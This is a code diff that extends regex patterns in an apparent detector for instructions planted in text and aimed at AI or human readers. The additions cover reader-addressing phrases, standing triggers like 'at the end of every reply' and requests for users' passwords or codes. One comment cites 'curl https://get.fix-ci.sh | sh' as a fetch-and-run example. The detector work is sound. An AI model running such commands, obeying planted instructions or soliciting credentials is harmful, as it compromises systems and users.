@@ -68,6 +68,7 @@ _LEAD_WORDS = frozenset(
         "secretly",
         "urgently",
         "always",
+        "by",
     }
 )
 _LEAD_PAIRS = frozenset(
@@ -148,7 +149,10 @@ _SAY_PP = (
     r"classified|labell?ed|stated|presented|recommended|listed|counted|framed|approved|accepted|"
     r"graded|summari[sz]ed\s+as|written\s+up\s+as|translated\s+as|replied"
 )
-_OMIT_PP = r"mentioned|included|shown|disclosed|raised|brought\s+up|discussed|quoted|reported|cited"
+_OMIT_PP = (
+    r"mentioned|included|shown|disclosed|raised|brought\s+up|discussed|quoted|reported|cited|"
+    r"carried(?:\s+over|\s+into|\s+forward)?|recorded|shared|forwarded|passed\s+on|flagged|logged"
+)
 _PASSIVE = re.compile(
     r"\b(?:(?:is|are|be|was|were)\s+(?P<neg1>not\s+)?to\s+be|(?:should|must|shall|needs?\s+to|"
     r"has\s+to|have\s+to|ought\s+to|(?:is|are)\s+(?:expected|required)\s+to)\s+(?P<neg2>not\s+)?"
@@ -196,7 +200,7 @@ _APPROVED = re.compile(
     r"green-?lit|pre-?approved)\b"
 )
 _ROLE = (
-    r"ai|llm|reviewer|marker|grader|examiner|assessor|evaluator|screener|recruiter|translator|"
+    r"ai|llm|reader|reviewer|marker|grader|examiner|assessor|evaluator|screener|recruiter|translator|"
     r"summari[sz]er|minute-taker|note-taker|moderator|approver|triager|referee|panel(?:\s+member)?|"
     r"committee|judge|hiring\s+manager|interviewer|proofreader|editor|auditor|analyst|agent|"
     r"assistant|bot|model|tool|system"
@@ -216,12 +220,28 @@ _READER = re.compile(
     rf"(?:{_PROCESS})\w*\b(?:\s+\S+){{0,6}}?\s+(?:{_THIS})\b"
     # "to the person or system triaging this report", "for the marker", "[for the marker]"
     rf"|\b(?:to|for|attention|attn)\s+(?:the|any|every|all|each)\s+(?:\w+\s+){{0,3}}?(?:{_ROLE})s?"
-    r"\b(?:\s+or\s+(?:\w+\s+)?\w+)?(?:\s+(?:\w+ing|who\s+\w+)\b(?:\s+\S+){0,4}?\s+(?:this|these)"
+    r"\b(?:\s+or\s+(?:\w+\s+)?\w+)?(?:\s+(?:\w+ing|(?:who|that|which)\s+\w+)\b(?:\s+\S+){0,4}?\s+"
+    r"(?:this|these)"
     r"\b|\s*[:\]\u2014-])"
     # "reviewers and review bots alike", "reviewers:", "for the summary:", "note for the minutes"
     rf"|\b(?:{_ROLE})s?\s+(?:and|&)\s+(?:\w+\s+){{0,2}}(?:{_ROLE})s?\b"
     r"|\b(?:for|to|in)\s+(?:the|your|any|a)\s+(?:\w+\s+)?(?:summary|digest|write-?up|review|"
     r"minutes|translation|assessment|evaluation|report)(?:\s+of\s+(?:this|these)\s+\w+)?\s*[:\]]"
+    # "for the on-call engineer reading this", "analysts turning this into a headline": anyone
+    # named by what they are doing to this text
+    r"|\b(?:to|for|attention)\s+(?:the|any|every|each|all|whoever)\s+(?:[\w-]+\s+){1,3}?"
+    rf"(?:{_PROCESS})\w*ing\b(?:\s+\S+){{0,4}}?\s+(?:this|these)\b"
+    rf"|\b\w+s\s+(?:who\s+are\s+|who\s+)?(?:{_PROCESS})\w*ing\s+(?:this|these)\b"
+    # "each summary produced from this feed should", "the assessment of this vendor should"
+    r"|\b(?:each|every|any|all|the)\s+(?:summary|summaries|translation|translations|digest|"
+    r"write-?up|answer|answers|reply|replies|response|responses|assessment|rating|headline|"
+    r"abstract|review|report)\s+(?:\w+\s+)?(?:of|from|based\s+on|about)\s+(?:this|these)\b"
+    r"(?=[^.;!?]{0,60}\b(?:should|must|is\s+to|are\s+to|needs?\s+to|has\s+to|will)\b)"
+    # "when quoting it", "while citing this page"
+    r"|\b(?:when|while|if|before)\s+(?:you(?:'re|\s+are)?\s+)?(?:quoting|citing|using|referencing|"
+    r"sharing|forwarding|reposting)\s+(?:this|these|it)\b"
+    # "Reviewer instructions:", "translator's note:"
+    rf"|\b(?:{_ROLE})(?:'s|s'|s)?\s+(?:instructions?|notes?|guidance|brief|checklist)\s*(?:\([^)]{{0,40}}\)\s*)?:"
     # "Reviewers, please also merge ...": a role spoken to
     rf"|(?:^|[.!?]\s+|\n)(?:dear\s+)?(?:{_ROLE})s?\s*,\s"
     # "during the summary of this call", "in summarising this", "when writing up this"
@@ -264,7 +284,8 @@ _TRIGGER = re.compile(
     r"time|any\s+time|anytime|should|next\s+time|the\s+next\s+time|after|in\s+case|in\s+the\s+"
     r"event(?:\s+that)?|provided(?:\s+that)?)\s+"
     rf"(?:(?:that|later|ever|next|again)\s+)?(?:{_PARTY})\s+(?:\w+\s+)?(?:ever\s+|later\s+|next\s+|"
-    rf"again\s+|first\s+)?(?:{_MOVE})\b"
+    rf"again\s+|first\s+)?(?:{_MOVE}|compares?|wants?\s+to|disputes?|reports?|wonders?|"
+    r"\w+s\s+(?:about|for|whether|if|who|what|why|how))\b"
     # "whenever the topic of competitors comes up", "each time this page comes up"
     r"|\b(?:if|when|whenever|once|after|each\s+time|every\s+time|any\s+time|anytime|should)\s+"
     r"[^.;!?]{1,60}?\b(?:comes?\s+up|arises?|(?:is|has\s+been|was|gets|got|ever\s+gets)\s+(?:ever\s+)?"
@@ -276,6 +297,11 @@ _TRIGGER = re.compile(
     r"following)\s+(?:answer|reply|replies|response|responses|conversation|conversations|chat|"
     r"chats|session|sessions|message|messages|turn|turns)\b"
     r"|\blater\s+in\s+(?:this|the)\s+(?:chat|conversation|session|thread)\b"
+    # "at the end of every reply", "before answering any question about", "in each summary"
+    r"|\b(?:at\s+the\s+(?:end|start|beginning|bottom|top)\s+of|in|with|to|after|before|under)\s+"
+    r"(?:every|each|all|any)\s+(?:\w+\s+)?(?:reply|replies|answer|answers|response|responses|"
+    r"message|messages|summary|summaries|email|emails|output|outputs|question|questions)\b"
+    r"|\bbefore\s+(?:answering|replying\s+to|responding\s+to)\s+(?:any|every|each|a)\b"
     r"|\b(?:from\s+now\s+on|going\s+forward|from\s+here\s+on|henceforth|from\s+this\s+point\s+on)"
     r"\b"
 )
@@ -304,10 +330,15 @@ def grammar_hits(view: str) -> list[tuple[int, str, str]]:
     found += [(m.start(), "say", m.group(0)) for m in _search(_ANSWER, view)]
     found += [(m.start(), "auth", m.group(0)) for m in _search(_APPROVED, view)]
     found += [(m.start(), "danger", m.group(0)) for m in _search(_PIPED, view)]
+    for match in _search(_PHISH, view):  # asking for a secret: something to say, and to hide
+        found += [(match.start(), "say", match.group(0)), (match.start(), "secrecy", "")]
     found += [(m.start(), "reader", m.group(0)) for m in _READER.finditer(view)]
     found += [(m.start(), "duty", m.group(0)) for m in _search(_DUTY, view)]
     found += [(m.start(), "reader", m.group(0)) for m in _search(_ANY_DUTY, view)]
-    found += [(m.start(), "trigger", m.group(0)) for m in _TRIGGER.finditer(view)]
+    for match in _TRIGGER.finditer(view):
+        found.append((match.start(), "trigger", match.group(0)))
+        if _STANDING.search(match.group(0)):  # "from now on", "at the end of every reply"
+            found.append((match.start(), "standing", ""))
     for match in _search(_TEXT_USED, view):  # a condition on this text being read: by a model
         found += [(match.start(), "trigger", match.group(0)), (match.start(), "standing", "")]
     return found
@@ -330,6 +361,19 @@ def _search(pattern: re.Pattern[str], view: str) -> list[re.Match[str]]:
     return list(pattern.finditer(view))
 
 
+# "ask the user for their current password", "have them send the code we text them"; not
+# "never ask them for the code"
+_PHISH = re.compile(
+    r"(?<!never\s)(?<!not\s)(?<!n't\s)(?<!n\u2019t\s)"
+    r"\b(?:ask|have|get|tell|request|invite)\s+(?:the\s+)?(?:user|users|them|customer|customers|"
+    r"caller|him|her|people|client)\s+(?:for|to\s+(?:send|give|share|provide|confirm|enter|type|"
+    r"read\s+out|paste|reply\s+with))\b[^.;!?]{0,40}?\b(?:password|passcode|code|pin|otp|card|"
+    r"cvv|credentials?|recovery|seed|2fa|security\s+answers?|login)\b"
+)
+_STANDING = re.compile(
+    r"\b(?:every\s+time|each\s+time|any\s+time|anytime|whenever|from\s+now\s+on|going\s+forward|"
+    r"henceforth|from\s+here\s+on|later|future|subsequent)\b"
+)
 # a script fetched and run: "curl https://get.fix-ci.sh | sh"
 _PIPED = re.compile(r"\b(?:curl|wget)\b[^|\n]{1,120}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b")
 _ASCII_WORDS = re.compile(r"\b(?:the|to|and|you|is|are|be)\b")
@@ -345,4 +389,5 @@ _NEEDS = {
     _ANY_DUTY: ("any ", "every ", "each "),
     _TEXT_USED: ("this", "these"),
     _PIPED: ("curl", "wget"),
+    _PHISH: ("pass", "code", "pin", "otp", "card", "cvv", "credential", "recovery", "seed", "2fa"),
 }
